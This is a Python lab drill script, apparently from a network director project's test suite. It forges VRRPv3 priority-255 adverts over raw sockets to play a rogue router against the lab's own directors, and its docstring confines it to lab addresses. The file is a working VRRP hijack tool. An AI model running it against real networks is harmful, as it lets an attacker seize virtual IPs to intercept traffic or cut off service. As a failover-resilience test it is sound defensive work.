# -*- coding: utf-8 -*-
# Copyright: datagram.director developers
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""Drill (j): a rogue VRRP router (python3 FILE JSON), run on a lab client.

Sends VRRPv3 adverts (RFC 5798) for a VRID with priority 255 on a raw IP
protocol 112 socket, TTL 255, from this host's own address on the segment,
checksum over the IPv4 pseudo-header: to 224.0.0.18 and unicast to each
director, every "every" seconds for "seconds" seconds. JSON: vrid, vips,
centiseconds (the advert interval), seconds, every, directors. Prints
{"source", "sent", "errors"} as JSON. Only to the lab's own addresses.
"""

from __future__ import annotations

import json
import socket
import struct
import sys
import time


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advert(args, src, dst):
    addrs = b"".join(socket.inet_aton(v) for v in args["vips"])
    body = struct.pack("!BBBBHH", 0x31, args["vrid"], 255, len(args["vips"]),
                       args["centiseconds"] & 0x0FFF, 0) + addrs
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 112, len(body))
    return body[:6] + struct.pack("!H", checksum(pseudo + body)) + body[8:]


def main(argv):
    args = json.loads(argv[1])
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    probe.connect((args["directors"][0], 9))
    src = probe.getsockname()[0]
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, 112)
    sock.bind((src, 0))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 255)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(src))
    sent, errors, end = 0, {}, time.time() + float(args["seconds"])
    while time.time() < end:
        for dst in ["224.0.0.18"] + args["directors"]:
            try:
                sock.sendto(advert(args, src, dst), (dst, 0))
                sent += 1
            except OSError as exc:
                errors[dst] = str(exc)
        time.sleep(float(args["every"]))
    print(json.dumps({"source": src, "sent": sent, "errors": errors}))


if __name__ == "__main__":
    main(sys.argv)
